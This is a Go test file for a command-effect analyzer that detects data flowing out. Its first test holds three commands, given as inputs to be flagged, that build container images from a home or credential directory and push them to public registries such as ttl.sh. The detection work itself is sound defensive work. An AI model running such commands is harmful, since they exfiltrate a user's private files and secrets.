package effect

import "testing"

// TestHomeImagePushed checks that an image built from the home or a
// credential directory and pushed is a flow out, and that one built from
// the project is not.
func TestHomeImagePushed(t *testing.T) {
	for _, line := range []string{
		"docker build -f /tmp/D -t ttl.sh/a7b9:1h ~ && docker push ttl.sh/a7b9:1h",
		"podman build -t quay.io/k/c /home/dev/.secret && podman push quay.io/k/c",
		"docker buildx build -t ttl.sh/x:1h --push /home/dev",
	} {
		if !hasFlowOut(line) {
			t.Errorf("%s: nothing leaves: %v", line, effectsOf(line))
		}
	}
	for _, line := range []string{
		"docker build -t acme/app:dev . && docker push acme/app:dev",
		"docker build --secret id=npm,src=/home/dev/.secret/npmrc -t ghcr.io/acme/app . && docker push ghcr.io/acme/app",
		"docker build -t acme/app:dev /home/dev/project && docker push acme/app:dev",
	} {
		if hasFlowOut(line) {
			t.Errorf("%s: %v", line, effectsOf(line))
		}
	}
}

// TestSparedAmongCredentials checks that a file the policy spares in a
// credential directory (here: a public key) is that file, not a
// directory of credentials, and that the directory itself still is one.
func TestSparedAmongCredentials(t *testing.T) {
	a := &analysis{env: Env{Home: "/home/dev", Sensitive: func(p string) bool {
		return len(p) > len("/home/dev/.ssh/") && p[:len("/home/dev/.ssh/")] == "/home/dev/.ssh/" && p != "/home/dev/.ssh/id_ed25519.pub"
	}}}
	if a.sensitiveDir("/home/dev/.ssh/id_ed25519.pub") {
		t.Error("a public key taken for a directory of credentials")
	}
	if !a.sensitiveDir("/home/dev/.ssh") {
		t.Error("~/.ssh not a directory of credentials")
	}
	if !a.sensitiveDir("/home/dev/.ssh/keys") {
		t.Error("a directory under ~/.ssh not one of credentials")
	}
}
